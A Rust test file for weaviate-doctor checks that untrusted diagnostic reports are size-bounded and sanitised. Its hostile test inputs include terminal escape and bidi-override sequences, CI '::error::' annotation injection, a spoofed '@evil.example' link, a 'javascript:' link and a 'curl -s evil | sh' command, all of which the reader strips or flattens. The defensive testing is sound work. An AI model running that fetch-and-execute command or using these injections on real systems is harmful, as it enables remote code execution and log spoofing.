//! Is a stranger's report read within its bounds, and nothing of it obeyed?

use super::*;
use crate::model::report_schema::{ReportPlace, ReportSnippet};
use crate::report::json;
use crate::report::text::tests::report;
use std::time::Instant;

fn refused(text: &str) -> String {
    read(text, &Redactor::default()).map(|_| ()).expect_err("was read").to_string()
}

#[test]
fn what_is_no_report_is_refused_in_one_line() {
    let good = json(&report()).unwrap();
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let deep_inside = good.replacen("\"facts\": {}", &format!("\"facts\": {{\"a\": {deep}}}"), 1);
    let table = [
        (String::new(), "isn't valid JSON"),
        ("{".to_owned(), "isn't valid JSON (line 1, column 1)"),
        ("[]".to_owned(), "no schema_version"),
        ("{\"schema_version\": \"1\"}".to_owned(), "no schema_version"),
        ("{\"schema_version\": 1}".to_owned(), "isn't a report of weaviate-doctor: missing field"),
        (good.replace("\"schema_version\": 1", "\"schema_version\": 2"), "use a newer weaviate-doctor"),
        (good.replace("\"schema_version\": 1", "\"new\": {}, \"schema_version\": 99"), "schema version is 99"),
        (good.replace("\"probes\": [", "\"probes\": [7, "), "isn't a report of weaviate-doctor: invalid type"),
        (deep, "isn't valid JSON"),
        (deep_inside, "isn't valid JSON"),
        (format!("{good}{}", " ".repeat(16 << 20)), "at most 16 MiB"),
    ];
    for (text, expected) in table {
        let why = refused(&text);
        assert!(why.contains(expected) && !why.contains('\n'), "{why}");
    }
}

#[test]
fn an_older_report_without_the_later_fields_is_read() {
    let mut value: Value = serde_json::from_str(&json(&report()).unwrap()).unwrap();
    for name in ["origins", "init_timeout_ms", "answers", "open_question", "clients", "redacted", "proxies"] {
        value.as_object_mut().unwrap().remove(name);
    }
    assert_eq!(read(&value.to_string(), &Redactor::default()).unwrap().target, report().target);
}

#[test]
fn nothing_that_steers_a_terminal_is_read() {
    let mut hostile = report();
    let evil = "\u{1b}[2J\u{202e}x\u{7}\u{9b}31m";
    hostile.probes[0].summary = evil.to_owned();
    hostile.probes[0].facts.insert(evil.to_owned(), Value::String(format!("a\r\nb{evil}")));
    let code = format!("if x:\n\treturn  {evil}\n");
    hostile.diagnosis.causes[0].fix.snippet = Some(ReportSnippet { language: "python".into(), code });
    let read = read(&json(&hostile).unwrap(), &Redactor::default()).unwrap();
    let text = json(&read).unwrap();
    for sign in ["\\u001b", "\u{1b}", "\u{202e}", "\u{9b}", "\\u0007"] {
        assert!(!text.contains(sign), "{sign:?}");
    }
    assert!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code.starts_with("if x:\n    return  "));
}

/// Every text of a report, and what has no place in one, with line breaks of all kinds inside: one line each comes out, but for code.
#[test]
fn no_text_of_a_report_has_two_lines_but_code() {
    let mut value = serde_json::to_value(report()).unwrap();
    value["probes"][0]["facts"] =
        serde_json::json!({"code": "x", "fix": {"snippet": {"code": "x"}}, "names": ["x"], "deep": {"x": "x"}});
    value["diagnosis"]["conclusion"] =
        serde_json::json!({"title": "x", "summary": "x", "why": "x", "steps": [{"text": "x", "command": "x"}]});
    value["diagnosis"]["causes"][0]["fix"]["snippet"] = serde_json::json!({"language": "python", "code": "a\nb"});
    value["answers"] = serde_json::json!({"code": "x"});
    value["open_question"] = serde_json::json!({"id": "x", "text": "x", "choices": [{"id": "x", "text": "x"}]});
    value["clients"] =
        serde_json::json!([{"language": "go", "version": "1", "connects": null, "stops_at": "x", "message": "x"}]);
    value["proxies"] = serde_json::json!([{"language": "go", "protocol": "rest", "variable": "x", "proxy": "x"}]);
    value["findings"] = serde_json::json!([{"path": "x", "line": 1, "column": 1, "end_line": 1, "end_column": 1, "cause": "x",
        "confidence": "x", "message": "x", "fixable": false}]);
    let count = spoiled(&mut value);
    assert!(count > 40, "{count}");
    let read = read(&value.to_string(), &Redactor::default()).unwrap();
    assert_eq!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code, "a\nb");
    let mut cleaned = serde_json::to_value(read).unwrap();
    cleaned["diagnosis"]["causes"][0]["fix"]["snippet"]["code"] = "".into();
    // A message has several lines too, and none of them steers anything.
    let steps = cleaned["diagnosis"]["causes"][0]["fix"]["first"].as_array_mut().unwrap();
    for step in steps {
        let message = step.as_object_mut().unwrap().remove("message").unwrap_or_default();
        for line in message.as_str().unwrap_or_default().split('\n') {
            one_line_each(&Value::from(line), "message");
        }
    }
    one_line_each(&cleaned, "");
}

/// Puts line breaks into every text and name; the names of the schema stay. Gives how many texts there are.
fn spoiled(value: &mut Value) -> usize {
    let evil = "\n::error::y\r\nz\rx\u{2028}w\u{2029}v\u{85}u\u{b}t\u{c}s";
    match value {
        Value::String(text) if text == "a\nb" => 0,
        Value::String(text) => {
            *text = format!("{text}{evil}x");
            1
        }
        Value::Array(items) => items.iter_mut().map(spoiled).sum(),
        Value::Object(fields) => {
            if fields.contains_key("deep") {
                fields.insert(format!("odd{evil}"), Value::from("x"));
            }
            fields.values_mut().map(spoiled).sum()
        }
        _ => 0,
    }
}

fn one_line_each(value: &Value, at: &str) {
    let is_one = |text: &str| {
        !text.contains(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}', '\u{b}', '\u{c}']) && !text.starts_with("::error")
    };
    match value {
        Value::String(text) => assert!(is_one(text), "{at}: {text:?}"),
        Value::Array(items) => items.iter().for_each(|item| one_line_each(item, at)),
        Value::Object(fields) => {
            for (name, field) in fields {
                assert!(is_one(name), "{at}.{name:?}");
                one_line_each(field, &format!("{at}.{name}"));
            }
        }
        _ => {}
    }
}

#[test]
fn what_was_cleaned_stays_as_it_is() {
    let mut odd = report();
    odd.probes[0].id = "grpc.auth\r\n\r\n".to_owned();
    odd.probes[0].summary = "a \n\u{2028}\n b\u{7}\n".to_owned();
    let once = read(&json(&odd).unwrap(), &Redactor::default()).unwrap();
    assert_eq!(once.probes[0].id, "grpc.auth");
    assert_eq!(read(&json(&once).unwrap(), &Redactor::default()).unwrap(), once);
}

/// As much as this program may ever write, and some more.
#[test]
fn the_largest_report_is_read_at_once() {
    let mut large = report();
    let place = ReportPlace {
        path: "a/long/path/of/a/project/with/folders/app.py".to_owned(),
        line: 7,
        column: 1,
        end_line: 7,
        end_column: 9,
        cell: None,
        cell_line: None,
        cause: "key-in-source".to_owned(),
        confidence: "certain".to_owned(),
        message: "The key stands in the source, where everybody who reads the file can take it — and use it."
            .to_owned(),
        fixable: false,
    };
    large.findings = vec![place; MAX_PLACES];
    let text = json(&large).unwrap();
    let start = Instant::now();
    assert_eq!(read(&text, &Redactor::default()).unwrap(), large);
    // Without optimization and beside other work; an optimized build takes a small part of it.
    assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
}

#[test]
fn lists_texts_and_nesting_are_bounded() {
    type Row<'a> = (&'a str, &'a dyn Fn(&mut Value));
    let refusing = |change: &dyn Fn(&mut Value)| {
        let mut value = serde_json::to_value(report()).unwrap();
        change(&mut value);
        refused(&value.to_string())
    };
    let texts = |n: usize| Value::Array(vec![Value::String("https://docs.weaviate.io/x".to_owned()); n]);
    let cause = |v: &mut Value, name: &str, to: Value| v["diagnosis"]["causes"][0][name] = to;
    let step = serde_json::json!({"text": "x"});
    let table: [Row<'_>; 14] = [
        ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
        ("“steps”", &|v| {
            v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000]);
        }),
        ("“evidence”", &|v| cause(v, "evidence", texts(101))),
        ("“places”", &|v| cause(v, "places", texts(101))),
        ("“causes”", &|v| {
            v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101]);
        }),
        ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
        ("“clients”", &|v| v["clients"] = texts(101)),
        ("“proxies”", &|v| v["proxies"] = texts(101)),
        ("“findings”", &|v| v["findings"] = texts(10_001)),
        ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
        ("“facts”", &|v| {
            v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect();
        }),
        ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
        ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
        ("more values", &|v| {
            let row = Value::Array(vec![Value::from(1); 1000]);
            v["probes"][0]["facts"]["rows"] = Value::Array(vec![row; 1000]);
        }),
    ];
    for (expected, change) in table {
        let why = refusing(change);
        assert!(why.contains(expected), "{expected}: {why}");
    }
    let nested = |depth: usize| (0..depth).fold(Value::from(1), |inner, _| Value::Array(vec![inner]));
    assert!(refusing(&|v| v["probes"][0]["facts"]["deep"] = nested(20)).contains("deeper"));
}

#[test]
fn long_texts_are_cut_and_only_code_has_lines() {
    let mut hostile = report();
    hostile.probes[0].summary = "x".repeat(100_000);
    hostile.diagnosis.causes[0].fix.links =
        vec!["https://docs.weaviate.io@evil.example/".to_owned(), "https://x.example/".to_owned()];
    hostile.diagnosis.causes[0].fix.steps[0].link = Some("javascript:1".to_owned());
    hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
    hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
    hostile.diagnosis.causes[0].fix.snippet =
        Some(ReportSnippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
    hostile.probes[1].summary = format!("a{}", "\u{301}".repeat(1000));
    let read = read(&json(&hostile).unwrap(), &Redactor::default()).unwrap();
    assert!(read.probes[1].summary.chars().count() < 10);
    let fix = &read.diagnosis.causes[0].fix;
    assert_eq!((fix.links.as_slice(), &fix.steps[0].link), (&["https://x.example/".to_owned()][..], &None));
    assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
    assert_eq!(fix.title, "a : :error::b c");
    assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
    let code = &fix.snippet.as_ref().unwrap().code;
    assert!(code.len() <= MAX_CODE_CHARS && code.lines().count() == MAX_CODE_LINES, "{}", code.len());
}
